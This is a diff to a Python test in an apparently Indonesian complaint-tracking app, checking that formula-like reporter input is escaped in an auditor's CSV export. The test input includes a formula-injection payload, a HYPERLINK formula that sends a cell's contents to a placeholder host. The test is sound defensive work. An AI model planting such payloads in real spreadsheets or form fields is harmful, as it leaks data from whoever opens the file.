@@ -10,6 +10,7 @@ from openpyxl import load_workbook
 from sqlalchemy import select, update
 
 from api.extensions import db
+from engine import complaints
 from engine.models import Case, CaseEvent, ChainCheck
 from tests.conftest import REPORTER_NAME, REPORTER_NIK, complaint_payload
 
@@ -301,10 +302,13 @@ def test_verify_is_in_the_openapi_contract(client):
 # --- CSV --------------------------------------------------------------------------------------------
 
 
-def test_a_reporter_s_words_that_begin_like_a_formula_are_text_in_the_csv(client, login):
-    """A spreadsheet opening the auditor's CSV would run "=HYPERLINK(...)" written by a reporter as a formula."""
+def test_a_reporter_s_words_that_begin_like_a_formula_are_text_in_the_csv(client, login, monkeypatch):
+    """A spreadsheet opening the auditor's CSV would run "=HYPERLINK(...)" written by a reporter as a formula. A
+    complaint filed today records its reporter's words as a commitment (engine.complaints.filing_words); one filed
+    before kept them in its filing event, as here."""
     formula = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
     words = "@SUM(1+1) uang pendaftaran diminta"
+    monkeypatch.setattr(complaints, "filing_words", lambda _settings, details: dict(details))
     r = client.post(f"{API}/complaints", json=complaint_payload("anonim", pokok_masalah=formula, uraian=words))
     assert r.status_code == 201, r.json
     rows = csv_rows(client, login)
